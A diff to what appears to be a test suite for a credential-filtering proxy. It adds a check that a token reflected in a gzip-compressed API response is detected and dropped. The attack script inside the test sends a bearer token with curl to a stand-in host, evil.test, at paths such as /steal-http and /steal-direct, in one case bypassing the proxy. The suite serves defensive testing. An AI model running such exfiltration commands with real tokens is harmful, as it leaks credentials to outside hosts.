@@ -85,6 +85,7 @@ urllib.request.build_opener(urllib.request.ProxyHandler({})).open(
 print(got[0])
 " | grep -q "$T" && found "a listener of its own"
 curl -sS $RESOLVE -D - -H "Authorization: Bearer $FORGE_TOKEN" https://allowed.test/api 2>&1 | grep -q "$T" && found "the API's reflection"
+curl -sS $RESOLVE --compressed -H "Authorization: Bearer $FORGE_TOKEN" https://allowed.test/api/gzip 2>&1 | grep -q "$T" && found "a compressed reflection"
 curl -sS $RESOLVE -H "Authorization: Bearer $FORGE_TOKEN" http://evil.test/steal-http 2>&1
 curl -sS $RESOLVE -H "Authorization: Bearer $FORGE_TOKEN" https://evil.test/steal-tls -o /dev/null 2>&1
 curl -sS $RESOLVE --noproxy '*' -H "Authorization: Bearer $FORGE_TOKEN" https://evil.test/steal-direct -o /dev/null 2>&1
@@ -164,6 +165,7 @@ class CredentialsTest(unittest.TestCase):
             [ATTACK], self.OPEN, "open")
         self.assertIn("FOUND via env\n", outputs[0])
         self.assertIn("FOUND via the API's reflection\n", outputs[0])
+        self.assertIn("FOUND via a compressed reflection\n", outputs[0])
         with open(self.log) as f:
             log = f.read()
         for path in ("/steal-http", "/steal-tls", "/steal-direct"):
@@ -200,6 +202,9 @@ class CredentialsTest(unittest.TestCase):
                    if r["host"] == "evil.test" and r["decision"] == "denied"]
         self.assertIn("the header Authorization carries the dummy of credential 'forge', which "
                       "goes only to its own hosts", refused)
+        self.assertIn("allowed.test answered with Content-Encoding: gzip, which the credential "
+                      "filter cannot read; the response was dropped",
+                      [r["reason"] for r in requests if r["host"] == "allowed.test"])
         with open(self.log) as f:
             log = f.read()
         # The real value reached allowed.test (the API, the push) and nothing reached evil.test.
